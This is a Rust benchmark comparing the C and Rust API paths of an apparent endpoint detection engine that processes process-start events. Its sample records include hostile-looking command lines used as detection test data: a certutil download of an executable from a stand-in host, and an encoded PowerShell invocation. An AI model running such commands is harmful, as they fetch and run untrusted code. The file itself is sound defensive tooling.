//! The C path against the Rust path, group `capi`: the per-event cost of an agent that builds
//! each event by hand and runs it, through the C API (`vigil_builder_*` setters,
//! `vigil_builder_finish`, `vigil_deployer_process`) and through the Rust API
//! (`EventBuilder::reuse_with` a layout resolved once, `set_copied`..., `Deployer::process`),
//! with the JIT and with the interpreter. Both copy every string into the event (a C host's buffers do not
//! outlive the call), set the same nine fields and three list items, run the 100 generated
//! rules of `vigil_benches::generate_rules` plus the example process rules, and turn each
//! alert into its JSON line (what the C callback receives); the `rust_borrowed` line is the
//! Rust path with borrowed strings, the cheapest an agent can do, and `c_counted` the C path
//! with no callback (alerts only counted: no JSON made).
//!
//! Each iteration builds and runs one event of a fixed cycle of 8 records (some alert).
//! Run: `cargo bench -p vigil-benches --bench capi`.

#![allow(unsafe_code)]

use std::ffi::c_void;
use std::ptr::null_mut;

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use vigil_benches::{compile_text, generate_rules};
use vigil_capi::deployer::{vigil_deployer_new, vigil_deployer_update};
use vigil_capi::event::{
    vigil_builder_field, vigil_builder_finish, vigil_builder_new, vigil_builder_push_str,
    vigil_builder_set_int, vigil_builder_set_str, vigil_deployer_process, vigil_event_new,
};
use vigil_capi::status::vigil_status;
use vigil_capi::trust::{vigil_trust_allow_unsigned, vigil_trust_new};
use vigil_capi::{vigil_alert, vigil_alert_fn, vigil_builder, vigil_field};
use vigil_runtime::budget::Budget;
use vigil_runtime::bundle::{encode, HeaderInput, TrustStore};
use vigil_runtime::deploy::{DeployOptions, Deployer};
use vigil_runtime::engine::EngineKind;
use vigil_runtime::event::{Event, EventBuilder, TypeLayout};
use vigil_runtime::schema::{FieldIndex, Schema};
use vigil_runtime::DecodeError;

const FIELDS: [&str; 9] = [
    "time",
    "host",
    "pid",
    "ppid",
    "image",
    "parent_image",
    "command_line",
    "user",
    "args",
];

/// One record as a sensor has it: (image, parent image, command line, args).
type Record = (&'static str, &'static str, &'static str, [&'static str; 3]);

const RECORDS: [Record; 8] = [
    (
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\explorer.exe",
        "cmd.exe /c dir",
        ["/c", "dir", ""],
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"C:\Windows\System32\cmd.exe",
        "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
        ["-nop", "-enc", "SQBFAFgA"],
    ),
    (
        r"C:\Program Files\Mozilla Firefox\firefox.exe",
        r"C:\Windows\explorer.exe",
        r#""C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc"#,
        ["-contentproc", "", ""],
    ),
    (
        r"C:\Windows\System32\certutil.exe",
        r"C:\Windows\System32\cmd.exe",
        "certutil.exe -urlcache -split -f http://x.test/a.exe a.exe",
        ["-urlcache", "-split", "-f"],
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\services.exe",
        "svchost.exe -k netsvcs -p",
        ["-k", "netsvcs", "-p"],
    ),
    (
        r"C:\Users\bob\AppData\Local\Temp\setup.exe",
        r"C:\Windows\explorer.exe",
        r"C:\Users\bob\AppData\Local\Temp\setup.exe /S",
        ["/S", "", ""],
    ),
    (
        r"C:\Windows\System32\rundll32.exe",
        r"C:\Windows\System32\cmd.exe",
        "rundll32.exe",
        ["", "", ""],
    ),
    (
        r"C:\Windows\System32\notepad.exe",
        r"C:\Windows\explorer.exe",
        r"notepad.exe C:\notes.txt",
        [r"C:\notes.txt", "", ""],
    ),
];

fn bundle(schema: &Schema) -> Vec<u8> {
    let process = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/rules/process.vgl"),
    )
    .expect("examples/rules/process.vgl");
    let compiled = compile_text(&format!("{}\n{process}", generate_rules(100)), schema);
    let header = HeaderInput {
        content_version: 1,
        bundle_id: "capi-bench".into(),
        created_by: "vigil-benches".into(),
        ..HeaderInput::default()
    };
    encode(compiled.program(), None, &header, None).expect("the bundle encodes")
}

unsafe extern "C" fn count_alert(user: *mut c_void, alert: *const vigil_alert) {
    // SAFETY: `user` is the bench's counter; `alert` is valid during the call.
    unsafe { *user.cast::<u64>() += (*alert).json_len as u64 };
}

fn ok(s: vigil_status) {
    assert!(
        matches!(s, vigil_status::VIGIL_OK | vigil_status::VIGIL_TRUNCATED),
        "{s:?}"
    );
}

/// Fills a Rust builder with record `n`, strings copied (`copy`) or borrowed.
fn rust_fill(
    eb: &mut EventBuilder<'_, 'static>,
    ix: &[FieldIndex],
    n: usize,
    copy: bool,
) -> Result<(), DecodeError> {
    let (image, parent, cmd, args) = RECORDS[n % RECORDS.len()];
    let set = |eb: &mut EventBuilder<'_, 'static>, i: usize, v: &'static str| {
        if copy {
            eb.set_copied(ix[i], v)
        } else {
            eb.set_str(ix[i], v)
        }
    };
    eb.set_int(ix[0], 1_732_406_400_000_000_000 + n as i64)?;
    set(eb, 1, "ws-042.corp.example")?;
    eb.set_int(ix[2], 4100 + n as i64)?;
    eb.set_int(ix[3], 812)?;
    set(eb, 4, image)?;
    set(eb, 5, parent)?;
    set(eb, 6, cmd)?;
    set(eb, 7, r"CORP\bob")?;
    for a in args {
        if copy {
            eb.push_copied(ix[8], a)?;
        } else {
            eb.push_item(ix[8], a)?;
        }
    }
    Ok(())
}

/// Fills a C builder with record `n`, as a C agent does.
///
/// # Safety
/// `b` is a live builder and `f` its fields.
unsafe fn c_fill(b: *mut vigil_builder, f: &[vigil_field; 9], n: usize) {
    let (image, parent, cmd, args) = RECORDS[n % RECORDS.len()];
    // SAFETY: the caller's contract; every string is ours with its length.
    unsafe {
        let set =
            |i: usize, s: &str| ok(vigil_builder_set_str(b, f[i], s.as_ptr().cast(), s.len()));
        ok(vigil_builder_set_int(
            b,
            f[0],
            1_732_406_400_000_000_000 + n as i64,
        ));
        set(1, "ws-042.corp.example");
        ok(vigil_builder_set_int(b, f[2], 4100 + n as i64));
        ok(vigil_builder_set_int(b, f[3], 812));
        set(4, image);
        set(5, parent);
        set(6, cmd);
        set(7, r"CORP\bob");
        for a in args {
            ok(vigil_builder_push_str(b, f[8], a.as_ptr().cast(), a.len()));
        }
    }
}

fn bench(c: &mut Criterion) {
    let schema = Schema::endpoint();
    let bytes = bundle(&schema);
    let mut group = c.benchmark_group("capi");
    for (engine, kind, raw) in [
        ("jit", EngineKind::Jit, 1u32),
        ("interp", EngineKind::Interp, 2),
    ] {
        // The Rust path.
        let trust = TrustStore {
            allow_unsigned: true,
            ..TrustStore::default()
        };
        let options = DeployOptions {
            engine: kind,
            ..DeployOptions::default()
        };
        let deployer = Deployer::new(schema.clone(), Budget::default(), trust, options);
        deployer.update(&bytes).expect("the bundle loads");
        let (ty, et) = schema.event("process_start").expect("process_start");
        let ix: Vec<FieldIndex> = FIELDS
            .iter()
            .map(|f| et.field(f).map(|(i, _)| i).expect("field"))
            .collect();
        let layout = TypeLayout::of(et);
        let mut alerts = 0u64;
        let mut n = 0usize;
        let mut spare: Event<'static> = Event::default();
        for (name, copy) in [("rust", true), ("rust_borrowed", false)] {
            group.bench_function(BenchmarkId::new(name, engine), |b| {
                b.iter(|| {
                    n += 1;
                    let mut eb =
                        EventBuilder::reuse_with(ty, et, &layout, std::mem::take(&mut spare));
                    rust_fill(&mut eb, &ix, n, copy).expect("set");
                    let ev = eb.finish();
                    let p = deployer.process(&ev, &mut |a| alerts += a.to_json_line().len() as u64);
                    spare = ev.recycle();
                    p.alerts
                })
            });
        }

        // The C path: the same calls a C agent makes.
        // SAFETY: every handle is made here and used only here; buffers are ours.
        unsafe {
            let mut trust = null_mut();
            ok(vigil_trust_new(&mut trust));
            ok(vigil_trust_allow_unsigned(trust, true));
            let mut d = null_mut();
            ok(vigil_deployer_new(std::ptr::null(), trust, raw, &mut d));
            ok(vigil_deployer_update(
                d,
                bytes.as_ptr(),
                bytes.len(),
                null_mut(),
            ));
            let mut b = null_mut();
            let ty = "process_start";
            ok(vigil_builder_new(d, ty.as_ptr().cast(), ty.len(), &mut b));
            let mut f: [vigil_field; 9] = [0; 9];
            for (slot, name) in f.iter_mut().zip(FIELDS) {
                ok(vigil_builder_field(
                    b,
                    name.as_ptr().cast(),
                    name.len(),
                    slot,
                ));
            }
            let mut ev = null_mut();
            ok(vigil_event_new(&mut ev));
            let mut c_alerts = 0u64;
            let callback: vigil_alert_fn = Some(count_alert);
            for (name, on_alert) in [("c", callback), ("c_counted", None)] {
                group.bench_function(BenchmarkId::new(name, engine), |bn| {
                    bn.iter(|| {
                        n += 1;
                        c_fill(b, &f, n);
                        ok(vigil_builder_finish(b, ev));
                        let mut k = 0usize;
                        let user = (&mut c_alerts as *mut u64).cast();
                        ok(vigil_deployer_process(d, ev, on_alert, user, &mut k));
                        k
                    })
                });
            }
            vigil_capi::event::vigil_event_free(ev);
            vigil_capi::event::vigil_builder_free(b);
            vigil_capi::deployer::vigil_deployer_free(d);
            vigil_capi::trust::vigil_trust_free(trust);
        }
    }
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
